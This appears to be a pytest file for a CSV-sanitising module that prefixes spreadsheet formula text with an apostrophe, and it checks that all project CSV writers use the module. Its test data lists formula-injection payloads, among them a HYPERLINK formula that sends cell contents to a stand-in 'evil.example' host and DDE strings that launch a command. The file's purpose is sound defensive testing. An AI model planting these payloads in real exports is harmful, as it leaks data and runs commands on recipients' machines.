"""Spreadsheet-safe CSV cells (cadre.engine.safecsv), and the gate that every CSV Cadre writes
goes through it."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from cadre.engine import safecsv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "=cmd|' /c calc'!A0",
    "+1+cmd|' /c calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "-",
    "-3 people",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert safecsv.cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", [-3, 2.5, -0.25, Decimal("-6.9"), None, "-3", "+4.5", "-1,200", "-1,200.5", "2.5e-3"]
)
def test_numbers_and_plain_number_text_are_kept(value: object) -> None:
    assert safecsv.cell(value) == value


@pytest.mark.parametrize(
    "text", ["Ada Lovelace", "a=b", "mail@example.org", "", "'=already quoted", "1,2,3x"]
)
def test_ordinary_text_is_kept(text: str) -> None:
    assert safecsv.cell(text) == text


def test_plain_numbers_are_only_numbers() -> None:
    assert safecsv.is_plain_number("-1,234,567.25")
    for text in ["-1,23", "--3", "-3-", "-3+1", "-", "+", "-.5e", "-1e", "=3"]:
        assert not safecsv.is_plain_number(text), text


def test_the_writer_neutralises_every_cell_and_reads_back() -> None:
    out = io.StringIO()
    writer = safecsv.writer(out, lineterminator="\n")
    writer.writerow(["name", "value"])
    writer.writerows([["=1+1", -3], ["@me", "-4.5"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["name", "value"], ["'=1+1", "-3"], ["'@me", "-4.5"]]
    assert [safecsv.unquote(r[0]) for r in rows[1:]] == ["=1+1", "@me"]


def test_unquote_leaves_other_apostrophes() -> None:
    assert safecsv.unquote("'quoted'") == "'quoted'"
    assert safecsv.unquote("plain") == "plain"


# --- the gate -----------------------------------------------------------------------------------

ROOT = Path(__file__).resolve().parents[3]
WRITERS = re.compile(r"\bcsv\.(writer|DictWriter)\(|from csv import[^\n]*\b(writer|DictWriter)\b")


def test_every_csv_writer_goes_through_safecsv() -> None:
    """A new CSV download or command that used the csv module directly would write formula
    text verbatim; this fails until it uses cadre.engine.safecsv.writer."""
    allowed = {ROOT / "cadre" / "engine" / "safecsv.py"}
    found = [
        str(path.relative_to(ROOT))
        for folder in ("cadre", "benchmarks", "bin")
        for path in sorted((ROOT / folder).rglob("*.py"))
        if path not in allowed
        and "tests" not in path.parts
        and ".venv" not in path.parts
        and WRITERS.search(path.read_text(encoding="utf-8"))
    ]
    assert found == []


def test_rows_number_each_row_by_the_line_it_starts_on() -> None:
    text = 'a,b\n1,"two\nlines"\n\n3,4\n'
    assert list(safecsv.rows(io.StringIO(text, newline=""))) == [
        (1, ["a", "b"]),
        (2, ["1", "two\nlines"]),
        (4, []),
        (5, ["3", "4"]),
    ]
